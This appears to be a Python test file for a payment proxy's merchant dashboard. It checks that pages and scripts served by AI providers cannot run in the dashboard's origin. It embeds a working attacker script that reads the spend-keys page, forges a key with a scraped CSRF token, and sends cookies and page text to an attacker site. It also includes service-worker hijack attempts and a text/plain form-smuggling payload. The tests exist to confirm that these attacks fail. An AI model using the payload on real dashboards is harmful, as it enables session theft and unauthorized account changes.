"""Pages and scripts that a provider answers with, in a browser in which a merchant is signed in to the dashboard."""

import base64
import json
import secrets
import time
import unittest
from urllib.parse import quote, urlencode

from browser import Browser, Site
from tollgate import BASES, URL, AttackTestCase, Merchant, Program, exchange, port, put_page

# What a browser says of what it loads for a page, and not for a script that asks.
DESTINATIONS = ["document", "iframe", "frame", "object", "embed", "script", "worker", "serviceworker"]
# A script of the attacker's: it reads the dashboard, changes something there, installs itself, and reports.
SCRIPT = """
const tell = (what, more) =>
  fetch(SITE + '/heard/' + what, {method: 'POST', mode: 'no-cors', body: String(more || '')});
tell('ran', typeof document === 'undefined' ? 'without a page' : document.URL);
(async () => {
  try {
    const page = await fetch('/dashboard/spend-keys', {credentials: 'include'});
    const text = await page.text();
    if (text.includes('MARK')) tell('read', text.length);
    const token = /name="(csrf|token|form_token|_token)" value="([^"]+)"/.exec(text);
    if (token) {
      const made = await fetch('/dashboard/spend-keys', {method: 'POST', credentials: 'include', body:
        new URLSearchParams({[token[1]]: token[2], name: 'made-by-a-script'})});
      tell('posted', made.status);
    }
  } catch (error) {}
  try { if (document.cookie) tell('cookie', document.cookie); } catch (error) {}
  try { localStorage.setItem('x', '1'); tell('stored'); } catch (error) {}
  try { tell('parent', parent.document.body.innerText.slice(0, 50)); } catch (error) {}
  try {
    await navigator.serviceWorker.register(location.href, {scope: '/'});
    tell('registered');
  } catch (error) {}
  try { new Worker(location.href); } catch (error) {}
})();
"""
HOSTILE = [["Service-Worker-Allowed", "/"], ["Access-Control-Allow-Origin", "*"]]


class FetchMetadata(AttackTestCase):
    """What a browser says of itself, by hand."""

    def forward(self, *headers, method="GET", path="/models"):
        return self.call("house", b"{}" if method == "POST" else None, method=method, path=path, headers=headers)

    def test_what_is_loaded_for_a_page_is_refused(self):
        for destination in DESTINATIONS:
            for value in (destination, destination.upper()):
                with self.subTest(destination=value):
                    answer = self.forward(("Sec-Fetch-Dest", value), ("Sec-Fetch-Mode", "no-cors"))
                    if value == destination:
                        self.assert_refused(answer, 403, "operation_not_allowed")
                    else:
                        self.assertIn(answer.status, (200, 403), str(answer))

    def test_what_else_runs_scripts_is_refused(self):
        for destination in ("sharedworker", "audioworklet", "paintworklet", "fencedframe", "xslt"):
            with self.subTest(destination=destination):
                answer = self.forward(("Sec-Fetch-Dest", destination), ("Sec-Fetch-Mode", "same-origin"))
                self.assert_refused(answer, 403, "operation_not_allowed")

    def test_a_navigation_is_refused(self):
        for destination in ("document", "empty", "image", None):
            with self.subTest(destination=destination):
                headers = [("Sec-Fetch-Mode", "navigate")] + ([("Sec-Fetch-Dest", destination)] if destination else [])
                self.assert_refused(self.forward(*headers), 403, "operation_not_allowed")

    def test_one_of_two_headers_is_enough(self):
        for pair in (("empty", "document"), ("document", "empty")):
            with self.subTest(pair=pair):
                answer = self.forward(*(("Sec-Fetch-Dest", one) for one in pair))
                self.assertIn(answer.status, (400, 403), str(answer))
                self.assert_not_called(answer)

    def test_a_form_that_a_page_sends_is_refused(self):
        answer = self.forward(("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Dest", "document"),
                              ("Content-Type", "application/json"), method="POST", path="/chat/completions")
        self.assert_refused(answer, 403, "operation_not_allowed")

    def test_a_script_that_asks_is_not(self):
        for mode in ("cors", "same-origin", "no-cors"):
            with self.subTest(mode=mode):
                answer = self.forward(("Sec-Fetch-Dest", "empty"), ("Sec-Fetch-Mode", mode))
                self.assertEqual(answer.status, 200, str(answer))


class Pages(unittest.TestCase):
    """A merchant is signed in; the attacker has a spend key or a merchant's account of his own."""

    @classmethod
    def setUpClass(cls):
        cls.browser = Browser()
        cls.addClassCleanup(cls.browser.stop)
        cls.victim, cls.attacker = Merchant(), Merchant()
        cls.victim.spend_key(name="MARK")
        cls.browser.go(f"{URL}/dashboard")
        cls.browser.type("input[type=password], input[name=key], input[name=secret_key]", cls.victim.key)
        cls.browser.click("form button")
        cls.wait(lambda: "sign" not in cls.browser.at())
        cls.browser.go(f"{URL}/dashboard/spend-keys")
        assert "MARK" in cls.browser.run("return document.body.innerText"), "the merchant is not signed in"

    @staticmethod
    def wait(until, seconds=5):
        deadline = time.monotonic() + seconds
        while not until() and time.monotonic() < deadline:
            time.sleep(0.05)

    def setUp(self):
        self.listen()

    def listen(self):
        """A new site of the attacker's, which hears nothing of what was started before."""
        self.site = Site()
        self.addCleanup(self.site.server_close)
        self.addCleanup(self.site.shutdown)
        self.script = SCRIPT.replace("SITE", json.dumps(self.site.url))

    def credentials(self):
        own = json.dumps({"secret_key": self.attacker.key, "provider_key": "sk-own"}).encode()
        return {
            "a spend key": self.attacker.spend_key()["key"],
            "a key of his own": base64.urlsafe_b64encode(own).decode(),
            # As if he had a spend key of the merchant's.
            "the merchant's spend key": self.victim.spend_key()["key"],
        }

    def forwarded(self, credential, content_type, text):
        """The URL below Tollgate of a page of the provider."""
        name = secrets.token_hex(4)
        put_page(name, [["Content-Type", content_type], *HOSTILE], text)
        query = {"u": f"{BASES['house']}/models/{name}", "key": credential}
        return f"{URL}/v1/forward?{urlencode(query, quote_via=quote)}"

    def page(self):
        return f"<!doctype html><body><p>a page of the provider<script>{self.script}</script></body>"

    def assert_silent(self, seconds=0.7):
        self.wait(lambda: self.site.heard, seconds)
        self.assertEqual(self.site.heard, [], "a script has run and reported")

    def test_a_script_is_heard_where_it_may_run(self):
        # Else nothing below shows anything.
        self.site.pages["/page"] = ("text/html", self.page())
        self.browser.go(f"{self.site.url}/page")
        self.wait(lambda: self.site.heard)
        self.assertIn("ran", "".join(self.site.heard))

    def test_a_navigation_runs_nothing(self):
        pages = {
            "text/html": "<!doctype html><body><p>a page of the provider<script>{}</script></body>",
            "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{}]]></script></svg>',
            "application/xhtml+xml":
                '<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[{}]]></script></body></html>',
        }
        for name, credential in self.credentials().items():
            for content_type in pages:
                with self.subTest(credential=name, content_type=content_type):
                    self.listen()
                    self.browser.go(self.forwarded(credential, content_type, pages[content_type].format(self.script)))
                    self.assert_silent()
                    shown = self.browser.run("return document.documentElement.innerText || ''")
                    self.assertNotIn("a page of the provider", shown)

    def test_a_page_that_embeds_runs_nothing(self):
        credential = self.credentials()["a key of his own"]
        for element in ('<iframe src="{}"></iframe>', '<object data="{}" type="text/html"></object>',
                        '<embed src="{}" type="text/html">', '<frameset><frame src="{}"></frameset>'):
            with self.subTest(element=element):
                self.listen()
                url = self.forwarded(credential, "text/html", self.page()).replace("&", "&amp;")
                self.site.pages["/page"] = ("text/html", f"<!doctype html>{element.format(url)}")
                self.browser.go(f"{self.site.url}/page")
                self.assert_silent()

    def test_a_form_that_is_sent_by_a_page_runs_nothing(self):
        url = self.forwarded(self.credentials()["a key of his own"], "text/html", self.page())
        self.site.pages["/page"] = ("text/html", f"""<!doctype html><form method=post enctype=text/plain
            action="{url.replace('&', '&amp;')}"><input name='{{"model":"cheap","x":"' value='"}}'></form>
            <script>document.forms[0].submit()</script>""")
        self.browser.go(f"{self.site.url}/page")
        self.assert_silent()

    def test_a_script_of_a_provider_does_not_run(self):
        for name, credential in self.credentials().items():
            for content_type in ("text/javascript", "application/json", "text/plain"):
                with self.subTest(credential=name, content_type=content_type):
                    self.listen()
                    url = self.forwarded(credential, content_type, self.script).replace("&", "&amp;")
                    scripts = f'<script src="{url}"></script><script type=module src="{url}"></script>'
                    self.site.pages["/page"] = ("text/html", f"<!doctype html>{scripts}")
                    self.browser.go(f"{self.site.url}/page")
                    self.assert_silent()

    def test_workers_of_the_services_own_origin_do_not_start(self):
        # The strongest place to start from: a page of the service itself.
        credential = self.credentials()["a key of his own"]
        workers = [f"""new Promise((yes, no) => {{
            const one = new {kind}(url); one.onerror = () => no('refused');
            setTimeout(() => yes('started'), 1000); }})"""
                   for kind in ("Worker", "SharedWorker")]
        for start in (*workers, "navigator.serviceWorker.register(url, {scope: '/'})",
                      "navigator.serviceWorker.register(url, {scope: '/', type: 'module'})"):
            with self.subTest(start=start):
                self.listen()
                url = self.forwarded(credential, "text/javascript", self.script)
                self.browser.go(f"{URL}/healthz")
                script = f"const url = arguments[0]; return ({start}).then(() => 'started', error => 'refused')"
                result = self.browser.run(script, url)
                self.assert_silent()
                registered = self.browser.run("""return navigator.serviceWorker.getRegistrations().then(all =>
                    Promise.all(all.map(one => one.unregister())).then(() => all.length))""")
                self.assertEqual((result, registered), ("refused", 0))

    def test_nothing_of_the_dashboard_was_changed(self):
        self.browser.go(self.forwarded(self.credentials()["a key of his own"], "text/html", self.page()))
        self.wait(lambda: False, 0.5)
        names = [key["name"] for key in self.victim.send("GET", "/v1/spend_keys?limit=100")["data"]]
        self.assertNotIn("made-by-a-script", names)


class DashboardListener(unittest.TestCase):
    """The dashboard on an address of its own shares no origin with what providers say."""

    def start(self):
        dashboard = f"127.0.0.1:{port()}"
        try:
            program = Program(f'dashboard_listen = "{dashboard}"')
        except AssertionError as error:
            self.fail(str(error)[:600])
        self.addCleanup(program.stop)
        return program.url, f"http://{dashboard}"

    def test_each_listener_has_its_own(self):
        main, dashboard = self.start()
        self.assertNotEqual(main, dashboard)
        merchant = Merchant(main)
        bearer = [("Authorization", f"Bearer {merchant.key}")]
        for path in ("/dashboard", "/dashboard/", "/dashboard/spend-keys", "/dashboard/sign-in"):
            with self.subTest(listener="main", path=path):
                self.assertEqual(exchange(main, "GET", path).status, 404)
                self.assertEqual(exchange(main, "POST", path, body=b"").status, 404)
        for path in ("/v1/models", "/v1/wallet", "/v1/requests", "/v1/forward?u=x", "/v1/operator/merchants"):
            with self.subTest(listener="dashboard", path=path):
                self.assertEqual(exchange(dashboard, "GET", path, bearer).status, 404)
        for path in ("/v1/chat/completions", "/v1/forward?u=x", "/v1/messages"):
            with self.subTest(listener="dashboard", path=path):
                self.assertEqual(exchange(dashboard, "POST", path, bearer, b"{}").status, 404)
        self.assertIn(exchange(dashboard, "GET", "/dashboard").status, (200, 302, 303, 307))
        self.assertEqual(exchange(main, "GET", "/v1/wallet", bearer).status, 200)


if __name__ == "__main__":
    unittest.main()
